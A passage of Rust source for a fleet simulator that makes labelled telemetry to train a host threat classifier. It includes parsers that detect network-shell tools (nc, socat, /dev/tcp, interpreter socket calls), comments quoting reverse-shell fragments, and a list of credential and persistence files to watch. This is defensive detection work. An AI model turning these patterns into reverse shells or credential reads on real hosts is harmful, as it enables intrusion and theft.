//! The fleet simulator: realistic, labelled telemetry for load tests and for
//! training the threat classifier.
//!
//! A fleet is `hosts` hosts running `workloads` workloads of four kinds (web
//! servers, databases, CI runners, batch/cron hosts). Each workload has its
//! daemons' routine (nginx workers and reloads, postgres maintenance, CI
//! builds, cron jobs), an administrator's repertoire of real command lines
//! from `data/benign_commands.jsonl`, and now and then a command it never ran
//! before. Attacks from `data/attacks_train.jsonl` are injected at a chosen
//! rate into a plausible context (remote code execution under a web server,
//! an interactive ssh session, cron persistence, a compromised CI job), and
//! every command becomes the exec, connect and open events it would cause.
//! Each event carries its label (malicious, ATT&CK tactic and technique).
//! Everything is deterministic from the seed.

use std::collections::VecDeque;
use std::path::Path;

use outlier_common::json::JsonEvent;
use serde::{Deserialize, Serialize};

use crate::shell;

/// Ground truth of one event.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Label {
    pub malicious: bool,
    /// MITRE ATT&CK tactic (e.g. `execution`, `credential-access`).
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub tactic: String,
    /// MITRE ATT&CK technique (e.g. `T1059.004`).
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub technique: String,
    /// The attack (corpus record) the event belongs to.
    #[serde(default, skip_serializing_if = "String::is_empty")]
    pub attack_id: String,
    /// Where the attack was injected (`web-rce`, `ssh-session`, `cron`, `ci-job`)
    /// or, for benign events, the activity.
    pub context: String,
}

/// An event with its label: one JSON Lines v1 object with a `label` field
/// (which replay ignores).
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct LabeledEvent {
    #[serde(flatten)]
    pub event: JsonEvent,
    pub label: Label,
}

/// One attack of the corpus.
#[derive(Debug, Clone, Deserialize)]
pub struct Attack {
    pub id: String,
    #[serde(default)]
    pub name: String,
    #[serde(default)]
    pub technique: String,
    /// ATT&CK tactic (Atomic Red Team) or GTFOBins function.
    #[serde(default)]
    pub tactic: String,
    #[serde(default)]
    pub elevated: bool,
    pub commands: Vec<String>,
}

/// The training corpora.
#[derive(Debug, Clone)]
pub struct Corpus {
    pub benign: Vec<String>,
    pub attacks: Vec<Attack>,
}

impl Corpus {
    /// Loads `benign_commands.jsonl` and `attacks_train.jsonl` from `dir`.
    pub fn load(dir: &Path) -> std::io::Result<Self> {
        #[derive(Deserialize)]
        struct B {
            command: String,
        }
        let benign = std::fs::read_to_string(dir.join("benign_commands.jsonl"))?
            .lines()
            .filter_map(|l| serde_json::from_str::<B>(l).ok())
            .map(|b| b.command)
            .filter(|c| !c.trim().is_empty())
            .collect();
        let attacks = std::fs::read_to_string(dir.join("attacks_train.jsonl"))?
            .lines()
            .filter_map(|l| serde_json::from_str::<Attack>(l).ok())
            .filter(|a| !a.commands.is_empty())
            .collect();
        Ok(Self { benign, attacks })
    }
}

/// Maps a corpus tactic or GTFOBins function to an ATT&CK tactic.
pub fn attack_tactic(a: &Attack) -> &'static str {
    match a.tactic.as_str() {
        "shell" | "command" | "inherit" | "execution" => "execution",
        "file-read" | "collection" => "collection",
        "file-write" => "persistence",
        "upload" | "exfiltration" => "exfiltration",
        "download" => "command-and-control",
        "reverse-shell" | "bind-shell" | "command-and-control" => "command-and-control",
        "privilege-escalation" => "privilege-escalation",
        "library-load" | "stealth" | "defense-impairment" | "defense-evasion" => "defense-evasion",
        "credential-access" => "credential-access",
        "discovery" => "discovery",
        "impact" => "impact",
        "initial-access" => "initial-access",
        "persistence" => "persistence",
        _ if a.elevated => "privilege-escalation",
        _ => "execution",
    }
}

/// Chooses which attacks of the corpus a simulation may inject.
pub type AttackFilter = std::sync::Arc<dyn Fn(&Attack) -> bool + Send + Sync>;

/// Simulator settings.
#[derive(Clone)]
pub struct SimConfig {
    pub seed: u64,
    pub org: String,
    pub hosts: usize,
    pub workloads: usize,
    /// Fraction of activities that are attacks (0.001 = one in a thousand).
    pub attack_rate: f64,
    /// Timestamp of the first event, ns.
    pub start_ns: u64,
    /// Simulated time between activities, ns.
    pub step_ns: u64,
    /// Prefix of event ids.
    pub id_prefix: String,
    /// Use only attacks whose index satisfies this (train/validation splits
    /// by technique are made by the caller).
    pub attack_filter: Option<AttackFilter>,
}

impl std::fmt::Debug for SimConfig {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("SimConfig")
            .field("seed", &self.seed)
            .field("org", &self.org)
            .field("hosts", &self.hosts)
            .field("workloads", &self.workloads)
            .field("attack_rate", &self.attack_rate)
            .finish_non_exhaustive()
    }
}

impl Default for SimConfig {
    fn default() -> Self {
        Self {
            seed: 1,
            org: "sim".into(),
            hosts: 20,
            workloads: 8,
            attack_rate: 0.002,
            start_ns: 1_800_000_000_000_000_000,
            step_ns: 50_000_000,
            id_prefix: "sim".into(),
            attack_filter: None,
        }
    }
}

pub use outlier_common::rng::Rng;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Web,
    Db,
    Ci,
    Batch,
}

#[derive(Debug, Clone)]
struct Workload {
    name: String,
    kind: Kind,
    hosts: Vec<String>,
    /// The administrators' usual commands (indices into the benign corpus).
    repertoire: Vec<usize>,
}

/// Who runs a command: the process that starts it and as whom.
#[derive(Debug, Clone)]
struct Ctx {
    parent: &'static str,
    /// Pid of the parent (0: the host's long-running `parent` daemon).
    ppid: u32,
    /// Pid of the process that connects or opens (0: the host's `comm` daemon).
    pid: u32,
    uid: u32,
    cwd: &'static str,
    context: &'static str,
}

pub struct Simulator {
    cfg: SimConfig,
    rng: Rng,
    corpus: std::sync::Arc<Corpus>,
    attacks: Vec<usize>,
    workloads: Vec<Workload>,
    queue: VecDeque<LabeledEvent>,
    seq: u64,
    t_ns: u64,
}

impl Simulator {
    pub fn new(cfg: SimConfig, corpus: std::sync::Arc<Corpus>) -> Self {
        let mut rng = Rng::new(cfg.seed);
        let kinds = [Kind::Web, Kind::Db, Kind::Ci, Kind::Batch];
        let workloads = (0..cfg.workloads.max(1))
            .map(|w| {
                let kind = kinds[w % kinds.len()];
                let name = format!(
                    "{}-{w}",
                    match kind {
                        Kind::Web => "web",
                        Kind::Db => "db",
                        Kind::Ci => "ci",
                        Kind::Batch => "batch",
                    }
                );
                let hosts = (0..cfg.hosts.max(1))
                    .filter(|h| {
                        h % cfg.workloads.max(1) == w % cfg.hosts.max(1)
                            || cfg.hosts < cfg.workloads
                    })
                    .take(8)
                    .map(|h| format!("host-{h}"))
                    .collect::<Vec<_>>();
                let hosts = if hosts.is_empty() {
                    vec![format!("host-{}", w % cfg.hosts.max(1))]
                } else {
                    hosts
                };
                let size = 20 + rng.below(60);
                let repertoire = (0..size).map(|_| rng.below(corpus.benign.len())).collect();
                Workload {
                    name,
                    kind,
                    hosts,
                    repertoire,
                }
            })
            .collect();
        let attacks = (0..corpus.attacks.len())
            .filter(|&i| {
                cfg.attack_filter
                    .as_ref()
                    .is_none_or(|f| f(&corpus.attacks[i]))
            })
            .collect();
        let t_ns = cfg.start_ns;
        Self {
            cfg,
            rng,
            corpus,
            attacks,
            workloads,
            queue: VecDeque::new(),
            seq: 0,
            t_ns,
        }
    }

    fn emit(&mut self, wl: usize, host: &str, mut e: JsonEvent, label: Label) {
        self.seq += 1;
        e.event_id = Some(format!("{}-{}", self.cfg.id_prefix, self.seq));
        e.ts_ns = Some(self.t_ns + self.queue.len() as u64 * 1_000);
        e.org = Some(self.cfg.org.clone());
        e.workload = Some(self.workloads[wl].name.clone());
        e.host = Some(host.to_string());
        self.queue.push_back(LabeledEvent { event: e, label });
    }

    fn exec(
        &mut self,
        wl: usize,
        host: &str,
        ctx: &Ctx,
        comm: &str,
        argv: Vec<String>,
        label: &Label,
    ) {
        self.spawn(wl, host, ctx, comm, argv, label);
    }

    /// Emits an exec and returns the new process's pid.
    fn spawn(
        &mut self,
        wl: usize,
        host: &str,
        ctx: &Ctx,
        comm: &str,
        argv: Vec<String>,
        label: &Label,
    ) -> u32 {
        let pid = 1000 + self.rng.below(60000) as u32;
        let ppid = if ctx.ppid != 0 {
            ctx.ppid
        } else {
            daemon_pid(host, ctx.parent)
        };
        let e = JsonEvent {
            kind: Some("exec".into()),
            pid: Some(pid),
            ppid: Some(ppid),
            uid: Some(ctx.uid),
            gid: Some(ctx.uid),
            comm: Some(comm.chars().take(15).collect()),
            parent_comm: Some(ctx.parent.to_string()),
            exe: Some(format!("/usr/bin/{comm}")),
            argv: Some(argv),
            cwd: Some(ctx.cwd.to_string()),
            ..JsonEvent::default()
        };
        self.emit(wl, host, e, label.clone());
        pid
    }

    fn actor(&self, host: &str, ctx: &Ctx, comm: &str) -> u32 {
        if ctx.pid != 0 {
            ctx.pid
        } else {
            daemon_pid(host, comm)
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn connect(
        &mut self,
        wl: usize,
        host: &str,
        ctx: &Ctx,
        comm: &str,
        ip: String,
        port: u32,
        label: &Label,
    ) {
        let e = JsonEvent {
            kind: Some("connect".into()),
            pid: Some(self.actor(host, ctx, comm)),
            uid: Some(ctx.uid),
            comm: Some(comm.chars().take(15).collect()),
            parent_comm: Some(ctx.parent.to_string()),
            remote_ip: Some(ip),
            remote_port: Some(port),
            local_port: Some(32768 + self.rng.below(28000) as u32),
            protocol: Some("tcp".into()),
            ..JsonEvent::default()
        };
        self.emit(wl, host, e, label.clone());
    }

    #[allow(clippy::too_many_arguments)]
    fn open(
        &mut self,
        wl: usize,
        host: &str,
        ctx: &Ctx,
        comm: &str,
        path: String,
        flags: u32,
        label: &Label,
    ) {
        let e = JsonEvent {
            kind: Some("open".into()),
            pid: Some(self.actor(host, ctx, comm)),
            uid: Some(ctx.uid),
            comm: Some(comm.chars().take(15).collect()),
            parent_comm: Some(ctx.parent.to_string()),
            path: Some(path),
            flags: Some(flags),
            ..JsonEvent::default()
        };
        self.emit(wl, host, e, label.clone());
    }

    /// Emits the events one shell command line causes (`shell::events`): run
    /// by `sh -c` under cron and under a web server, by the parent's own
    /// shell otherwise (a login shell, a job runner).
    fn command(&mut self, wl: usize, host: &str, ctx: &Ctx, cmdline: &str, label: &Label) {
        let ppid = if ctx.ppid != 0 {
            ctx.ppid
        } else {
            daemon_pid(host, ctx.parent)
        };
        let wrapped = ctx.parent == "cron" || ctx.parent.starts_with("php-fpm");
        let shell = if wrapped {
            let sh = self.spawn(
                wl,
                host,
                ctx,
                "sh",
                vec!["sh".into(), "-c".into(), cmdline.to_string()],
                label,
            );
            shell::Shell {
                pid: sh,
                comm: "sh",
                ppid,
                parent_comm: ctx.parent,
                uid: ctx.uid,
                cwd: ctx.cwd,
                home: if ctx.uid == 0 { "/root" } else { ctx.cwd },
                exes: None,
            }
        } else {
            shell::Shell {
                pid: ppid,
                comm: ctx.parent,
                ppid: daemon_pid(host, "sshd"),
                parent_comm: "sshd",
                uid: ctx.uid,
                cwd: ctx.cwd,
                home: if ctx.uid == 0 { "/root" } else { ctx.cwd },
                exes: None,
            }
        };
        let rng = &mut self.rng;
        let evs = shell::events(cmdline, &shell, || 1000 + rng.below(60000) as u32);
        for e in evs {
            self.emit(wl, host, e, label.clone());
        }
    }

    fn benign(&mut self) {
        let wl = self.rng.below(self.workloads.len());
        let w = self.workloads[wl].clone();
        let host = self.rng.pick(&w.hosts).clone();
        let label = |context: &str| Label {
            context: context.into(),
            ..Label::default()
        };
        let admin = Ctx {
            parent: "bash",
            ppid: 0,
            pid: 0,
            uid: 1000,
            cwd: "/home/admin",
            context: "admin",
        };
        let r = self.rng.below(100);
        let x = self.rng.below(1000);
        // Now and then an administrator runs something new to the workload.
        if r < 2 {
            let cmd = self.rng.pick(&self.corpus.benign).clone();
            self.command(wl, &host, &admin, &cmd, &label("novel-admin"));
            return;
        }
        if r < 12 {
            let i = *self.rng.pick(&w.repertoire);
            let cmd = self.corpus.benign[i].clone();
            let ctx = if w.kind == Kind::Batch {
                Ctx {
                    parent: "cron",
                    ppid: 0,
                    pid: 0,
                    uid: 0,
                    cwd: "/",
                    context: "cron",
                }
            } else {
                admin
            };
            self.command(wl, &host, &ctx, &cmd, &label("admin"));
            return;
        }
        let svc = |parent: &'static str, uid: u32, cwd: &'static str| Ctx {
            parent,
            ppid: 0,
            pid: 0,
            uid,
            cwd,
            context: "daemon",
        };
        let l = label("daemon");
        match w.kind {
            Kind::Web => match r {
                12..=44 => self.exec(
                    wl,
                    &host,
                    &svc("nginx", 33, "/"),
                    "nginx",
                    vec!["nginx: worker process".into()],
                    &l,
                ),
                45..=47 => self.exec(
                    wl,
                    &host,
                    &svc("systemd", 0, "/"),
                    "nginx",
                    argv("/usr/sbin/nginx -s reload"),
                    &l,
                ),
                48..=62 => self.connect(
                    wl,
                    &host,
                    &svc("php-fpm8.2", 33, "/"),
                    "php-fpm8.2",
                    "10.0.1.5".into(),
                    5432,
                    &l,
                ),
                63..=70 => self.exec(
                    wl,
                    &host,
                    &svc("php-fpm8.2", 33, "/var/www/app"),
                    "php-fpm8.2",
                    vec!["php-fpm: pool www".into()],
                    &l,
                ),
                71..=88 => self.open(
                    wl,
                    &host,
                    &svc("nginx", 33, "/"),
                    "nginx",
                    "/var/log/nginx/access.log".into(),
                    0o2101,
                    &l,
                ),
                89..=93 => self.connect(
                    wl,
                    &host,
                    &svc("nginx", 33, "/"),
                    "nginx",
                    format!("10.0.2.{}", 10 + x % 4),
                    8080,
                    &l,
                ),
                94..=96 => self.exec(
                    wl,
                    &host,
                    &svc("cron", 0, "/"),
                    "logrotate",
                    argv("/usr/sbin/logrotate /etc/logrotate.conf"),
                    &l,
                ),
                _ => self.exec(
                    wl,
                    &host,
                    &svc("sshd", 1000, "/home/admin"),
                    "bash",
                    vec!["-bash".into()],
                    &l,
                ),
            },
            Kind::Db => match r {
                12..=50 => self.exec(
                    wl,
                    &host,
                    &svc("postgres", 105, "/var/lib/postgresql/15/main"),
                    "postgres",
                    vec!["postgres: autovacuum worker".into()],
                    &l,
                ),
                51..=65 => self.exec(
                    wl,
                    &host,
                    &svc("postgres", 105, "/var/lib/postgresql/15/main"),
                    "postgres",
                    vec!["postgres: checkpointer".into()],
                    &l,
                ),
                66..=75 => {
                    let day = 1 + self.rng.below(28);
                    self.exec(
                        wl,
                        &host,
                        &svc("cron", 105, "/var/lib/postgresql"),
                        "pg_dump",
                        argv(&format!(
                            "pg_dump -Fc -f /backup/app-202611{day:02}.dump app"
                        )),
                        &l,
                    );
                    self.open(
                        wl,
                        &host,
                        &svc("cron", 105, "/"),
                        "pg_dump",
                        format!("/backup/app-202611{day:02}.dump"),
                        0o1101,
                        &l,
                    );
                }
                76..=90 => self.connect(
                    wl,
                    &host,
                    &svc("postgres", 105, "/"),
                    "postgres",
                    "10.0.1.6".into(),
                    5432,
                    &l,
                ),
                _ => self.exec(
                    wl,
                    &host,
                    &svc("sshd", 1000, "/home/admin"),
                    "bash",
                    vec!["-bash".into()],
                    &l,
                ),
            },
            Kind::Ci => {
                let ci = svc("runner", 1001, "/home/runner/work/app");
                match r {
                    12..=60 => {
                        let cmd = *self.rng.pick(&[
                            "git fetch --depth=1 origin refs/heads/main",
                            "cargo build --release --locked",
                            "cargo test --workspace",
                            "npm ci --no-audit",
                            "bash ./scripts/build.sh --release",
                            "make -j2 all",
                            "docker build -t app:ci .",
                        ]);
                        self.command(wl, &host, &ci, cmd, &l);
                    }
                    61..=80 => self.connect(
                        wl,
                        &host,
                        &ci,
                        "git",
                        format!("140.82.112.{}", 3 + x % 2),
                        443,
                        &l,
                    ),
                    81..=90 => {
                        self.connect(wl, &host, &ci, "cargo", "151.101.2.137".into(), 443, &l)
                    }
                    _ => self.open(
                        wl,
                        &host,
                        &ci,
                        "cc",
                        format!("/home/runner/work/app/target/obj-{}.o", x % 500),
                        0o1101,
                        &l,
                    ),
                }
            }
            Kind::Batch => {
                let cron = svc("cron", 0, "/");
                match r {
                    12..=50 => self.exec(
                        wl,
                        &host,
                        &cron,
                        "python3",
                        argv(&format!("python3 /opt/jobs/report_{}.py", x % 6)),
                        &l,
                    ),
                    51..=70 => self.command(
                        wl,
                        &host,
                        &cron,
                        "rsync -a /srv/data/ backup.internal:/backups/",
                        &l,
                    ),
                    71..=85 => self.command(wl, &host, &cron, "tar czf /backup/etc.tgz /etc", &l),
                    _ => self.connect(wl, &host, &cron, "python3", "10.0.3.20".into(), 443, &l),
                }
            }
        }
    }

    fn attack(&mut self) {
        if self.attacks.is_empty() {
            return self.benign();
        }
        let a = self.corpus.attacks[*self.rng.pick(&self.attacks)].clone();
        let tactic = attack_tactic(&a);
        // A context where such an attack happens, on a workload of that kind.
        let choice = match tactic {
            "persistence" if self.rng.chance(0.5) => 2,
            "execution" | "command-and-control" | "initial-access" if self.rng.chance(0.5) => 0,
            _ => self.rng.below(4),
        };
        let (kind, ctx) = match choice {
            0 => (
                Kind::Web,
                Ctx {
                    parent: "php-fpm8.2",
                    ppid: 0,
                    pid: 0,
                    uid: 33,
                    cwd: "/var/www/app",
                    context: "web-rce",
                },
            ),
            1 => (
                Kind::Web,
                Ctx {
                    parent: "bash",
                    ppid: 0,
                    pid: 0,
                    uid: if a.elevated { 0 } else { 1000 },
                    cwd: "/home/admin",
                    context: "ssh-session",
                },
            ),
            2 => (
                Kind::Batch,
                Ctx {
                    parent: "cron",
                    ppid: 0,
                    pid: 0,
                    uid: 0,
                    cwd: "/",
                    context: "cron",
                },
            ),
            _ => (
                Kind::Ci,
                Ctx {
                    parent: "bash",
                    ppid: 0,
                    pid: 0,
                    uid: 1001,
                    cwd: "/home/runner/work/app",
                    context: "ci-job",
                },
            ),
        };
        let candidates: Vec<usize> = (0..self.workloads.len())
            .filter(|&w| self.workloads[w].kind == kind)
            .collect();
        let wl = if candidates.is_empty() {
            self.rng.below(self.workloads.len())
        } else {
            *self.rng.pick(&candidates)
        };
        let host = self.rng.pick(&self.workloads[wl].hosts.clone()).clone();
        let label = Label {
            malicious: true,
            tactic: tactic.to_string(),
            technique: a.technique.clone(),
            attack_id: a.id.clone(),
            context: ctx.context.to_string(),
        };
        // A web exploit's commands each run in a `sh -c` the web server starts.
        for cmd in a.commands.iter().take(12) {
            self.command(wl, &host, &ctx, cmd, &label);
        }
    }
}

impl Iterator for Simulator {
    type Item = LabeledEvent;

    fn next(&mut self) -> Option<LabeledEvent> {
        while self.queue.is_empty() {
            self.t_ns += self.cfg.step_ns;
            if self.rng.chance(self.cfg.attack_rate) {
                self.attack();
            } else {
                self.benign();
            }
        }
        self.queue.pop_front()
    }
}

/// Pid of a long-running process (`name` on `host`): stable, below 1000.
fn daemon_pid(host: &str, name: &str) -> u32 {
    let h = xxhash_rust::xxh3::xxh3_64(format!("{host}/{name}").as_bytes());
    100 + (h % 900) as u32
}

fn argv(s: &str) -> Vec<String> {
    shell_words(s)
}

/// Splits one command into words, honouring quotes (no expansion).
pub fn shell_words(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let (mut sq, mut dq, mut any) = (false, false, false);
    for c in s.chars() {
        match c {
            '\'' if !dq => {
                sq = !sq;
                any = true;
            }
            '"' if !sq => {
                dq = !dq;
                any = true;
            }
            c if c.is_whitespace() && !sq && !dq => {
                if any || !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                    any = false;
                }
            }
            c => cur.push(c),
        }
    }
    if any || !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// A stable documentation-range address for a host name.
/// The address of a host named by address or by name.
fn resolved(host: &str) -> String {
    if host.parse::<std::net::IpAddr>().is_ok() {
        host.to_string()
    } else {
        address_of(host)
    }
}

fn address_of(host: &str) -> String {
    let h = xxhash_rust::xxh3::xxh3_64(host.as_bytes());
    format!("203.0.113.{}", 1 + h % 254)
}

/// The remote endpoints a command names.
pub fn addresses(words: &[String]) -> Vec<(String, u32)> {
    let mut out = Vec::new();
    let prog = words
        .first()
        .map(|p| p.rsplit('/').next().unwrap_or(p))
        .unwrap_or("");
    for (i, w) in words.iter().enumerate() {
        if let Some(rest) = w
            .split("/dev/tcp/")
            .nth(1)
            .or_else(|| w.split("/dev/udp/").nth(1))
        {
            let mut parts = rest.split('/');
            if let (Some(ip), Some(port)) = (parts.next(), parts.next()) {
                let port = leading_port(port);
                if port > 0 {
                    out.push((resolved(ip), port));
                }
            }
        }
        for scheme in ["http://", "https://", "ftp://"] {
            if let Some(rest) = w.find(scheme).map(|p| &w[p + scheme.len()..]) {
                let hostport = rest.split('/').next().unwrap_or("");
                let (host, port) = match hostport.rsplit_once(':') {
                    Some((h, p)) => (h, p.parse().unwrap_or(80)),
                    None => (
                        hostport,
                        if scheme == "https://" {
                            443
                        } else if scheme == "ftp://" {
                            21
                        } else {
                            80
                        },
                    ),
                };
                if !host.is_empty() {
                    out.push((resolved(host), port));
                }
            }
        }
        // nc/ncat/telnet HOST PORT (a host by address or by name).
        if matches!(
            prog,
            "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "telnet"
        ) && i > 0
            && i + 1 < words.len()
        {
            let ip_ok = w.parse::<std::net::IpAddr>().is_ok();
            if (ip_ok || is_hostname(w))
                && let Ok(port) = words[i + 1].parse::<u32>()
                && (1..=65535).contains(&port)
            {
                out.push((resolved(w), port));
            }
        }
        // socat's `TCP:host:port`, `OPENSSL:host:port` …
        if prog == "socat"
            && let Some((kind, rest)) = w.split_once(':')
            && matches!(
                kind.to_ascii_lowercase().as_str(),
                "tcp" | "tcp4" | "tcp6" | "tcp-connect" | "openssl" | "openssl-connect" | "udp"
            )
        {
            let rest = rest.split(',').next().unwrap_or("");
            if let Some((host, port)) = rest.rsplit_once(':')
                && let Ok(port) = port.parse::<u32>()
                && !host.is_empty()
            {
                let host = host.trim_matches(['[', ']']);
                out.push((resolved(host), port));
            }
        }
        // gawk's special files: `/inet/tcp/0/host/port`.
        if let Some(rest) = w
            .split("/inet/tcp/")
            .nth(1)
            .or_else(|| w.split("/inet4/tcp/").nth(1))
        {
            let parts: Vec<&str> = rest.split('/').collect();
            if let [_, host, port, ..] = parts[..] {
                let port = leading_port(port);
                if port > 0 && !host.is_empty() {
                    out.push((resolved(host), port));
                }
            }
        }
        // An interpreter's socket code: `connect(("10.0.0.1",4444))`,
        // `TCPSocket.new("10.0.0.1",4444)`, `fsockopen("10.0.0.1",4444)`,
        // `$i="10.0.0.1";$p=4444;`.
        if i > 0
            && is_interpreter(prog)
            && let Some(a) = socket_address(w)
        {
            out.push(a);
        }
        if matches!(prog, "ssh" | "scp" | "sftp" | "rsync") && w.contains('@') {
            let host = w
                .split('@')
                .nth(1)
                .unwrap_or("")
                .split(':')
                .next()
                .unwrap_or("");
            if !host.is_empty() {
                out.push((resolved(host), 22));
            }
        }
    }
    out.truncate(4);
    out
}

/// A temporary file's random-looking suffix of `n` letters and digits,
/// fixed by `seed` (as `mkstemp` would make one).
pub fn temp_suffix(seed: &str, n: usize) -> String {
    const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut h = xxhash_rust::xxh3::xxh3_64(seed.as_bytes());
    (0..n)
        .map(|_| {
            let c = ALNUM[(h % ALNUM.len() as u64) as usize] as char;
            h /= ALNUM.len() as u64;
            c
        })
        .collect()
}

/// The port a path's component starts with (`4444` of `4444/x`; 0: none).
fn leading_port(s: &str) -> u32 {
    s.chars()
        .take_while(char::is_ascii_digit)
        .collect::<String>()
        .parse()
        .unwrap_or(0)
}

/// Whether `w` names a host: dotted labels of letters, digits and `-`,
/// ending in a label of letters.
pub fn is_hostname(w: &str) -> bool {
    let labels: Vec<&str> = w.split('.').collect();
    labels.len() >= 2
        && w.len() <= 253
        && labels.iter().all(|l| {
            !l.is_empty()
                && l.len() <= 63
                && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
        })
        && labels
            .last()
            .is_some_and(|l| l.len() >= 2 && l.chars().all(|c| c.is_ascii_alphabetic()))
}

fn is_interpreter(prog: &str) -> bool {
    let stem = prog.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    matches!(
        stem,
        "python" | "perl" | "ruby" | "php" | "node" | "nodejs" | "lua" | "jrunscript" | "jjs"
    )
}

/// The endpoint an interpreter's code connects to: a socket call and a
/// quoted IPv4 address in it, with the first port-sized number after it.
fn socket_address(code: &str) -> Option<(String, u32)> {
    let lower = code.to_ascii_lowercase();
    if ![
        "connect",
        "fsockopen",
        "net.",
        "tcpsocket",
        "peeraddr",
        "inet_aton",
    ]
    .iter()
    .any(|k| lower.contains(k))
    {
        return None;
    }
    for (q, _) in code.match_indices(['"', '\'']) {
        let rest = &code[q + 1..];
        let end = rest.find(['"', '\'']).unwrap_or(rest.len());
        let ip = &rest[..end];
        // A listening socket's address is not a connection.
        if ip.parse::<std::net::Ipv4Addr>().is_err() || ip == "0.0.0.0" {
            continue;
        }
        let after = &rest[end..];
        let port = after
            .split(|c: char| !c.is_ascii_digit())
            .filter(|d| !d.is_empty())
            .find_map(|d| d.parse::<u32>().ok().filter(|p| (1..=65535).contains(p)))?;
        return Some((ip.to_string(), port));
    }
    None
}

/// Paths the collector's open filter would report of a program's
/// arguments: any file written (the target of `tee`, `cp`, `mv`, `dd of=`)
/// and reads of sensitive files; `~` is `home`.
pub fn files(words: &[String], home: &str) -> Vec<(String, bool)> {
    let mut out = Vec::new();
    let prog = words
        .first()
        .map(|p| p.rsplit('/').next().unwrap_or(p))
        .unwrap_or("");
    for (i, w) in words.iter().enumerate() {
        let prev = if i > 0 { words[i - 1].as_str() } else { "" };
        let path = w
            .trim_start_matches(['>', '<'])
            .trim_start_matches("of=")
            .trim_start_matches("if=");
        if !(path.starts_with('/') || path.starts_with("~/")) {
            continue;
        }
        let path = match path.strip_prefix("~/") {
            Some(rest) => format!("{}/{rest}", home.trim_end_matches('/')),
            None => path.to_string(),
        };
        let write = w.starts_with('>')
            || prev == ">"
            || prev == ">>"
            || w.starts_with("of=")
            || (matches!(prog, "tee" | "cp" | "mv" | "install" | "touch") && i == words.len() - 1);
        if reported_open(&path, write) {
            out.push((path, write));
        }
    }
    // `sed -i` writes its result to a temporary file beside the target and
    // renames it over the target.
    let in_place = words
        .iter()
        .any(|w| w.starts_with("-i") || w.starts_with("--in-place"));
    if prog == "sed"
        && in_place
        && let Some(target) = words.iter().skip(1).rev().find(|w| w.starts_with('/'))
    {
        let dir = target.rsplit_once('/').map_or("", |(d, _)| d);
        out.push((format!("{dir}/sed{}", temp_suffix(target, 6)), true));
    }
    out.truncate(4);
    out
}

/// Whether the collector's open filter reports an open, with its default
/// configuration (collector/src/config.rs, `CaptureConfig::default`): any
/// write outside its quiet paths, and reads of sensitive files.
pub fn reported_open(path: &str, write: bool) -> bool {
    const SENSITIVE: [&str; 18] = [
        "/etc/shadow",
        "/etc/gshadow",
        "/etc/sudoers",
        "/etc/security/opasswd",
        "/etc/ssh/ssh_host_",
        "/etc/ssl/private/",
        "/etc/crontab",
        "/etc/cron.d/",
        "/etc/cron.hourly/",
        "/etc/cron.daily/",
        "/etc/cron.weekly/",
        "/etc/cron.monthly/",
        "/var/spool/cron/",
        "/etc/krb5.keytab",
        "/etc/kubernetes/pki/",
        "/var/run/secrets/",
        "/run/secrets/",
        "/etc/ld.so.preload",
    ];
    const IN_HOMES: [&str; 10] = [
        "/.ssh/",
        "/.bash_history",
        "/.zsh_history",
        "/.aws/",
        "/.kube/",
        "/.gnupg/",
        "/.docker/config.json",
        "/.git-credentials",
        "/.netrc",
        "/.pgpass",
    ];
    const QUIET: [&str; 7] = [
        "/dev/null",
        "/dev/tty",
        "/dev/pts/",
        "/dev/ptmx",
        "/dev/console",
        "/proc/",
        "/sys/",
    ];
    if path.is_empty() || QUIET.iter().any(|q| path.starts_with(q)) {
        return false;
    }
    let home = path.starts_with("/root/") || path.starts_with("/home/");
    write
        || SENSITIVE.iter().any(|s| path.starts_with(s))
        || (home && IN_HOMES.iter().any(|h| path.contains(h)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn corpus() -> std::sync::Arc<Corpus> {
        std::sync::Arc::new(
            Corpus::load(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../data")).unwrap(),
        )
    }

    #[test]
    fn deterministic_from_the_seed() {
        let c = corpus();
        let a: Vec<String> = Simulator::new(SimConfig::default(), c.clone())
            .take(2000)
            .map(|e| serde_json::to_string(&e).unwrap())
            .collect();
        let b: Vec<String> = Simulator::new(SimConfig::default(), c.clone())
            .take(2000)
            .map(|e| serde_json::to_string(&e).unwrap())
            .collect();
        assert_eq!(a, b);
        let other: Vec<String> = Simulator::new(
            SimConfig {
                seed: 2,
                ..SimConfig::default()
            },
            c,
        )
        .take(2000)
        .map(|e| serde_json::to_string(&e).unwrap())
        .collect();
        assert_ne!(a, other);
    }

    #[test]
    fn attacks_are_injected_at_the_rate_and_labelled() {
        let cfg = SimConfig {
            attack_rate: 0.05,
            ..SimConfig::default()
        };
        let events: Vec<LabeledEvent> = Simulator::new(cfg, corpus()).take(20_000).collect();
        let malicious: Vec<&LabeledEvent> = events.iter().filter(|e| e.label.malicious).collect();
        // An attack is a chain of several events, so the malicious share of
        // events is not the rate itself; it must follow the rate, though:
        // none at 0, about twice as many at twice the rate.
        let count = |rate: f64| {
            Simulator::new(
                SimConfig {
                    attack_rate: rate,
                    ..SimConfig::default()
                },
                corpus(),
            )
            .take(20_000)
            .filter(|e| e.label.malicious)
            .count()
        };
        assert_eq!(count(0.0), 0);
        let ratio = count(0.10) as f64 / malicious.len() as f64;
        assert!(
            malicious.len() > 1_000 && (1.6..2.2).contains(&ratio),
            "{} malicious events at 5%, {ratio:.2}x that at 10%",
            malicious.len()
        );
        assert!(
            malicious
                .iter()
                .all(|e| !e.label.tactic.is_empty() && !e.label.attack_id.is_empty())
        );
        for kind in ["exec", "connect", "open"] {
            assert!(
                malicious
                    .iter()
